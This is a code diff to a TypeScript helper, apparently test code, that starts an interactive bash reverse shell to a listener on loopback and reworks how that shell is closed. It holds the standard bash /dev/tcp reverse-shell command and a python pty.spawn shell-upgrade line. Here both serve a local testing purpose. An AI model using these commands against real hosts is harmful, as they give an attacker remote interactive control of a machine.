@@ -13,6 +13,8 @@ export interface ReverseShell {
 }
 
 const connectMs = 10_000;
+const closeTurns = 20;
+const closeTurnMs = 100;
 
 /**
  * The star case, on this host alone: in a terminal, bash connects its standard streams to a listener on loopback, and
@@ -27,11 +29,9 @@ export async function openReverseShell(token: string): Promise<ReverseShell> {
   await once(server, 'listening');
   const { port } = server.address() as AddressInfo;
   const connected = once(server, 'connection') as Promise<[Socket]>;
-  const terminal = await openTerminal('/bin/bash', [
-    '--norc',
-    '-c',
-    `exec /bin/bash --norc -i >& /dev/tcp/127.0.0.1/${port} 0>&1`,
-  ]);
+  // The second command keeps the outer bash waiting, and with it the terminal open: once nobody holds it, it hangs up.
+  const command = `/bin/bash --norc -i >& /dev/tcp/127.0.0.1/${port} 0>&1; exit 0`;
+  const terminal = await openTerminal('/bin/bash', ['--norc', '-c', command]);
   const answer = await Promise.race([connected, delay(connectMs, undefined, { ref: false })]);
   const socket = answer?.[0];
   if (!socket) {
@@ -43,6 +43,7 @@ export async function openReverseShell(token: string): Promise<ReverseShell> {
   socket.on('data', (chunk: Buffer) => {
     shown = (shown + chunk.toString()).slice(-16_384);
   });
+  const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
   // The other end disappears when the terminal is closed.
   socket.on('error', () => socket.destroy());
   const upgrade = `python3 -c 'import pty; pty.spawn("/bin/bash") # ${token}'`;
@@ -52,9 +53,11 @@ export async function openReverseShell(token: string): Promise<ReverseShell> {
     realTerminal: terminal.real,
     output: () => shown,
     async close() {
-      // Ends the inner shell, then python with it, then the outer shell.
-      socket.write('exit\nexit\n');
-      await Promise.race([once(socket, 'close'), delay(2000, undefined, { ref: false })]);
+      // Ends the inner shell and python with it, then the outer shell; each reads its line only when it is its turn.
+      for (let turn = 0; turn < closeTurns && !socket.destroyed; turn++) {
+        socket.write('exit\n');
+        await Promise.race([closed, delay(closeTurnMs, undefined, { ref: false })]);
+      }
       socket.destroy();
       await terminal.close();
       server.close();
